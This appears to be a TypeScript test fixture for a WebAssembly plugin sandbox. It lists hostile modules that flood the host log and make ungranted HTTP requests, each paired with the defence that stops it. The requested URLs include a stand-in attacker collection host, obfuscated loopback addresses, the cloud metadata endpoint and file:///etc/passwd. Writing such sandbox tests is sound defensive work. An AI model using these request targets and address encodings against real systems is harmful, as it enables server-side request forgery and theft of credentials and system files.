// Modules that misuse what the host offers: its log, and the network that it does not give them.
import type { Attack } from "../attack.js";
import { hostileModule } from "../hostile-module.js";

const log = (id: string, tries: string, hook: string, data: string): Attack => ({
	id,
	tries,
	stoppedBy: "64 lines and 16 KiB are kept of a call, 1,024 characters of a line; the rest is counted",
	module: () => hostileModule({ hook: `${hook} (call $continue)`, data, fields: "(memory 40)" }),
	outcome: "ok",
});

/** Outbound HTTP without a grant: no address is even looked at. */
const http = (id: string, url: string): Attack => ({
	id,
	tries: `asks for ${url}`,
	stoppedBy: "no plugin has access to the network without a grant",
	module: () =>
		hostileModule({
			hook: "(drop (call $http_request (call $data_block) (i64.const 0))) (call $continue)",
			data: JSON.stringify({ url, method: "GET", headers: {} }),
		}),
	outcome: "denied",
	error: /http_request/,
});

export const HOST_CALLS: readonly Attack[] = [
	log(
		"log-flood",
		"logs 5,000 lines",
		"(loop $next (call $log_error (call $data_block)) (local.set $i (i32.add (local.get $i) (i32.const 1))) (br_if $next (i32.lt_u (local.get $i) (i32.const 5000))))",
		"line",
	),
	log(
		"log-long-line",
		"logs a line of 200 kB with line breaks and escapes",
		"(call $log_warn (call $data_block))",
		"\u001b[31mno\r\n".repeat(22_000),
	),
	log(
		"log-of-nowhere",
		"logs blocks that do not exist",
		"(call $log_info (i64.const -1)) (call $log_debug (i64.const 0x7000000000000000))",
		"",
	),
	http("http-host", "https://attacker.example/collect"),
	http("http-loopback", "http://127.0.0.1:4222/"),
	http("http-loopback-decimal", "http://2130706433/"),
	http("http-loopback-octal", "http://0177.0.0.1/"),
	http("http-loopback-ipv6", "http://[::1]:8080/api/v1/plugins"),
	http("http-mapped-ipv6", "http://[::ffff:127.0.0.1]/"),
	http("http-metadata", "http://169.254.169.254/latest/meta-data/"),
	http("http-file", "file:///etc/passwd"),
	{
		id: "http-swallowed-denial",
		tries: "asks for the network and hides that it was denied behind an endless loop",
		stoppedBy: "the denial ends the call before the loop begins",
		module: () =>
			hostileModule({
				hook: "(drop (call $http_request (call $data_block) (i64.const 0))) (loop $again (br $again))",
				data: JSON.stringify({ url: "https://attacker.example/", method: "GET", headers: {} }),
			}),
		outcome: "denied",
	},
];
